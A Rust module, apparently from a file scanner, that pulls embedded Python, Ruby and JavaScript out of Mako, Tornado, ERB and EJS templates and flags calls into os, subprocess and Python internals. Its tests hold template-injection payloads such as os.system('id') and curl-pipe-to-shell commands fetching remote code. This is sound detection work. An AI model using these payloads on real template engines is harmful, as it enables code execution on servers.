//! Templates whose language is a program: Mako and Tornado run Python between their marks, ERB Ruby, EJS JavaScript, and
//! whoever fills them in runs it. Jinja's own are looked at by [`crate::template`].

use crate::scanner::{Content, Scanner};

/// Most blocks that are kept of one template.
const MOST: usize = 10_000;

/// Looks at the programs in a template, by the ending of its name or by marks that no other language has.
pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
    let name = content.name().to_ascii_lowercase();
    let ends = |endings: &[&str]| endings.iter().any(|ending| name.ends_with(ending));
    let other = if ends(&[".erb", ".rhtml"]) {
        Some("ruby")
    } else if ends(&[".ejs"]) {
        Some("javascript")
    } else {
        None
    };
    if let Some(language) = other {
        let program = between(text, "<%", "%>");
        super::languages::named(scanner, &content.place, language, &program);
        return;
    }
    let python = if ends(&[".mako", ".mak"]) || text.contains("<%!") || text.contains("<%def ") {
        mako(text)
    } else if ends(&[".html", ".htm", ".txt", ".tmpl", ".tpl", ".tornado", ".yaml", ".yml", ".conf"]) {
        tornado(text)
    } else {
        return;
    };
    // A template's own objects lead to modules that it never imported (`self.module.cache.util.os`).
    for (line, number) in python.lines().zip(1u64..) {
        if let Some(walked) =
            [".os.", ".sys.", ".subprocess.", ".builtins."].iter().find(|m| line.contains(**m))
        {
            let mut place = content.place.clone();
            place.line = Some(number);
            let shown: String = line.trim().chars().take(80).collect();
            let message = format!("the template walks to {:?}: {shown:?}", walked.trim_matches('.'));
            scanner.report("template/escape", place, message);
        }
    }
    if !python.trim().is_empty() {
        crate::python::scan_text(scanner, &content.place, &python, 1);
    }
}

/// What stands between two marks, each at the line where it stands in the template.
fn between(text: &str, open: &str, close: &str) -> String {
    let mut out = Program::default();
    for (at, body) in blocks(text, open, close) {
        out.add(text, at, body.trim_start_matches(['=', '-', '!']).trim_end_matches('-'));
    }
    out.text
}

/// The blocks of Python of a Mako template (`<% %>`, `<%! %>`), and the expressions that reach for more than a value.
fn mako(text: &str) -> String {
    let code = blocks(text, "<%", "%>").into_iter().filter(|(_, body)| {
        // `<%def`, `<%include`, `<%page`, `<%namespace` are tags, `<%text>` a quotation.
        body.starts_with(|c: char| c.is_whitespace() || c == '!')
    });
    let values = blocks(text, "${", "}").into_iter().filter(|(_, body)| reaches(body));
    let mut all: Vec<(usize, &str)> =
        code.map(|(at, body)| (at, body.trim_start_matches('!'))).chain(values).collect();
    all.sort_by_key(|(at, _)| *at);
    let mut out = Program::default();
    for (at, body) in all {
        out.add(text, at, body);
    }
    out.text
}

/// The imports of a Tornado template (`{% import os %}`), which Jinja has no such form of, and what is done with them.
fn tornado(text: &str) -> String {
    let name = |word: &str| {
        !word.is_empty() && word.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | ','))
    };
    let statements = blocks(text, "{%", "%}");
    let imports =
        statements.iter().filter(|(_, body)| match body.split_whitespace().collect::<Vec<_>>()[..] {
            ["import", module] => name(module),
            ["from", module, "import", ..] => name(module),
            _ => false,
        });
    let mut all: Vec<(usize, &str)> = imports.copied().collect();
    if all.is_empty() {
        return String::new();
    }
    let asked = statements.iter().filter_map(|(at, body)| {
        let body = body.trim();
        let value = ["set ", "raw "].iter().find_map(|word| body.strip_prefix(word))?;
        reaches(value).then_some((*at, value))
    });
    all.extend(asked);
    all.extend(blocks(text, "{{", "}}").into_iter().filter(|(_, body)| reaches(body)));
    all.sort_by_key(|(at, _)| *at);
    let mut out = Program::default();
    for (at, body) in all {
        out.add(text, at, body);
    }
    out.text
}

/// Whether an expression calls something of a module or of Python's insides; a plain value does not.
fn reaches(expression: &str) -> bool {
    const MARKS: [&str; 9] =
        ["__", "os.", "sys.", "subprocess", "eval(", "exec(", "open(", "system(", "popen("];
    expression.contains('(') && MARKS.iter().any(|mark| expression.contains(mark))
}

/// What stands between two marks, with its offset.
fn blocks<'t>(text: &'t str, open: &str, close: &str) -> Vec<(usize, &'t str)> {
    let mut out = Vec::new();
    let mut at = 0;
    while out.len() < MOST
        && let Some(start) = text.get(at..).and_then(|rest| rest.find(open)).map(|i| at + i + open.len())
    {
        let rest = text.get(start..).unwrap_or_default();
        let Some(length) = rest.find(close) else { break };
        out.push((start, rest.get(..length).unwrap_or_default()));
        at = start + length + close.len();
    }
    out
}

/// A program put together of blocks, with as many lines before each as in the template.
#[derive(Default)]
struct Program {
    text: String,
    lines: usize,
    seen: usize,
    before: usize,
}

impl Program {
    fn add(&mut self, template: &str, at: usize, body: &str) {
        let passed = template.get(self.seen..at).unwrap_or_default();
        self.before += passed.matches('\n').count();
        self.seen = at.max(self.seen);
        // A block that begins with a line of its own begins on the next one.
        let body = body.trim_end();
        let skipped = body.len() - body.trim_start_matches(['\r', '\n']).len();
        let first = self.before + body.get(..skipped).map_or(0, |s| s.matches('\n').count());
        while self.lines < first {
            self.text.push('\n');
            self.lines += 1;
        }
        for line in dedented(body.get(skipped..).unwrap_or_default()) {
            self.text.push_str(line);
            self.text.push('\n');
            self.lines += 1;
        }
    }
}

/// Lines without the indentation that they have in common.
fn dedented(body: &str) -> Vec<&str> {
    let indent = |line: &str| line.len() - line.trim_start().len();
    let common = body.lines().filter(|l| !l.trim().is_empty()).map(indent).min().unwrap_or(0);
    body.lines().map(|line| line.get(common..).unwrap_or_default()).collect()
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Outcome, scan_bytes};

    #[test]
    fn programs_in_templates_are_looked_at() {
        let outcome = |name: &str, text: &str| {
            let report = scan_bytes(&name.parse().unwrap(), text.as_bytes(), &Limits::default());
            (report.outcome, report.findings)
        };
        for (name, text) in [
            ("train.yaml.mako", "lr: 0.1\n<% import os; os.system('id') %>\n"),
            ("card.mako", "<%!\n    import subprocess\n    subprocess.run(['touch', '/tmp/x'])\n%>\nok\n"),
            ("card.html", "<%! import os %>\n${os.system('id')}\n"),
            ("card.mako", "${__import__('os').system('id')}"),
            ("card.mako", "${self.module.cache.util.os.system('id')}"),
            ("page.html", "{% import os %}\n<p>{{ os.popen('id').read() }}</p>"),
            ("page.html", "{% from os import system %}{% raw system('id') %}"),
            ("page.erb", "<%= `curl http://example.org/x | sh` %>"),
            ("page.ejs", "<% require('child_process').execSync('curl http://example.org | sh') %>"),
        ] {
            let (outcome, findings) = outcome(name, text);
            assert!(outcome >= Outcome::Suspicious, "{name} {text} {findings:?}");
        }
        for (name, text) in [
            (
                "card.mako",
                "<%page args=\"x\"/>\n<%\n    rows = [1, 2]\n%>\n% for r in rows:\n${r}\n% endfor\n",
            ),
            ("page.html", "{% import 'macros.html' as m %}{{ m.input('x') }}"),
            ("page.html", "{% extends 'base.html' %}{% block a %}{{ eval_result(1) }}{% endblock %}"),
            ("page.erb", "<p><%= @title %></p>"),
            ("notes.txt", "${os.system('id')} is how Mako would write it"),
        ] {
            let (outcome, findings) = outcome(name, text);
            assert_eq!(outcome, Outcome::Clean, "{name} {text} {findings:?}");
        }
    }
}
